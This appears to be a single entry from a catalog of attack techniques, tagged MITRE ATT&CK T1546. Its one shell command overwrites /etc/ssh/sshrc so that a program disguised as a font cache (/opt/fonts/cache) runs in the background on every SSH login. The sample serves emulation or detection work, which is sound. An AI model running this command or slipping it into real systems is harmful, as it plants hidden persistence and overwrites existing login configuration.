# technique: T1546
# location: linux.ssh.system-rc
# source: /etc/ssh/sshrc
echo '/opt/fonts/cache 1 &' > /etc/ssh/sshrc
